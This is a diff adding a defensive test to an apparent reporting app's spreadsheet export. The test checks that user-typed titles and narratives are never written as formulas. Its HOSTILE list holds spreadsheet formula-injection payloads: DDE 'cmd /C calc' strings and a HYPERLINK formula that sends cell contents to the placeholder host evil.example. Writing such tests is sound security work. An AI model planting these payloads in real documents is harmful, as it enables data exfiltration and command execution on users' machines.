@@ -189,3 +189,44 @@ def test_charts_are_pictures(bundle) -> None:  # type: ignore[no-untyped-def]
     assert set(bundle.charts) == {"progress", "types"}
     assert all(png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 5000 for png in bundle.charts.values())
     assert set(bundle.files()) == {f"{bundle.stem}.docx", f"{bundle.stem}.xlsx", f"{bundle.stem}-progress.png", f"{bundle.stem}-types.png"}
+
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?d="&B2,"Xem")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",
+)
+
+
+def test_user_text_is_never_a_formula(db, loaded, lao_cai) -> None:  # type: ignore[no-untyped-def]
+    """Titles, places and narratives typed by anyone reach every sheet as text, as typed."""
+    with session_scope(db) as session:
+        chosen = choose_period(session, lao_cai, loaded, "2027-H1", NOW)
+        period = session.get(Period, chosen.row.id)
+        agencies = session.exec(select(Agency.code).where(Agency.code != "LHH").order_by(Agency.id).limit(len(HOSTILE))).all()
+        for code, hostile in zip(agencies, HOSTILE, strict=True):
+            _report(session, period, code, {"hoi-thao": 1}, hostile, local(2027, 6, 18, 10))
+        types = {t.code: t.id for t in session.exec(select(ActivityType))}
+        lead = _agency(session, "SNNPTNT")
+        for n, hostile in enumerate(HOSTILE):
+            draft = Draft(types["hoi-thao"], hostile, date(2027, 1, 10 + n), hostile, (), 5)
+            register(session, loaded, lead, draft, None, NOW.date(), NOW)
+    with session_scope(db) as session:
+        chosen = choose_period(session, lao_cai, loaded, "2027-H1", NOW)
+        xlsx = build_bundle(session, lao_cai, loaded, chosen, NOW).xlsx
+    book = load_workbook(io.BytesIO(xlsx))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    activities = book["Danh sách hoạt động"]
+    assert {row[3] for row in activities.iter_rows(min_row=2, values_only=True)} >= set(HOSTILE)
+    assert {row[5] for row in activities.iter_rows(min_row=2, values_only=True)} >= set(HOSTILE)
+    assert {row[1] for row in book["Khó khăn, kiến nghị"].iter_rows(min_row=2, values_only=True)} == set(HOSTILE)
+    assert set(HOSTILE) <= set(texts)
+    assert any(c.value == HOSTILE[0] and c.quotePrefix for c in cells)
